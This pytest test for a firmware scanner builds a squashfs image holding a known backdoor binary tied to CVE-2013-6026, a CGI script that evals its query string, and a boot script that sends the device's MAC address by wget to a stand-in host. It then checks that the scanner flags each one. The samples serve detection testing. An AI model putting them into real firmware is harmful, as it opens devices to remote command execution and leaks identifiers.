"""A real squashfs image with a documented backdoor program (compiled with gcc), a CGI that
runs its input and a boot job that beacons the MAC, scanned through the CLI."""

from __future__ import annotations

import subprocess
from pathlib import Path

import pytest

from firmproof.testing.fixtures import pack
from tests.analyzers.test_known import HEAD, PROGRAMS
from tests.conftest import need_tools, scan_report, tool


@pytest.mark.parametrize("compiler", ["gcc", "mips-linux-gnu-gcc"])
def test_image_with_known_backdoor_hidden_cgi_and_exfiltration(compiler: str, tmp_path: Path) -> None:
    need_tools("mksquashfs")
    gcc = tool(compiler)
    root = tmp_path / "root"
    for folder in ("etc/init.d", "www/cgi-bin", "usr/sbin", "bin"):
        (root / folder).mkdir(parents=True)
    source, _ = PROGRAMS["FP-KNOWN-001"]
    (tmp_path / "webs.c").write_text(HEAD + source)
    subprocess.run([gcc, "-O2", "-s", "-w", "-o", str(root / "usr/sbin/webs"), str(tmp_path / "webs.c")],
                   check=True)
    (root / "etc/inittab").write_text("::sysinit:/etc/init.d/rcS\n")
    rcs = ("#!/bin/sh\n/usr/sbin/webs &\nMAC=$(cat /sys/class/net/eth0/address)\n"
           "wget -q \"http://203.0.113.9/r.php?mac=$MAC\" -O /dev/null &\n"
           "wget http://update.vendor-cloud.com/fw.bin -O /tmp/fw.bin\n")
    (root / "etc/init.d/rcS").write_text(rcs)
    cgi = "#!/bin/sh\necho\nCMD=$(echo \"$QUERY_STRING\" | sed 's/^cmd=//')\neval \"$CMD\"\n"
    (root / "www/cgi-bin/debug.cgi").write_text(cgi)
    (root / "www/index.html").write_text("<a href='/status.html'>Status</a>\n")
    for path in ("etc/init.d/rcS", "www/cgi-bin/debug.cgi", "usr/sbin/webs"):
        (root / path).chmod(0o755)
    image = pack(root, "squashfs-xz", tmp_path / "fw.squashfs")

    report = scan_report(image, tmp_path)
    by_rule: dict[str, list[dict]] = {}  # type: ignore[type-arg]
    for finding in report["findings"]:
        by_rule.setdefault(finding["rule"], []).append(finding)

    (known,) = by_rule["FP-KNOWN-001"]
    assert known["path"] == "/usr/sbin/webs" and known["category"] == "known-backdoor"
    assert "xmlset_roodkcableoj28840ybtide" in known["evidence"]["excerpt"]
    assert any("CVE-2013-6026" in ref for ref in known["references"])

    (web,) = by_rule["FP-WEB-001"]
    assert web["path"] == "/www/cgi-bin/debug.cgi" and web["evidence"]["excerpt"] == 'eval "$CMD"'
    assert web["evidence"]["offset"] == cgi.index('eval "$CMD"')

    (exfil,) = by_rule["FP-EXFIL-001"]
    assert exfil["path"] == "/etc/init.d/rcS" and exfil["details"]["host"] == "203.0.113.9"
    assert exfil["evidence"]["offset"] == rcs.index("wget -q")
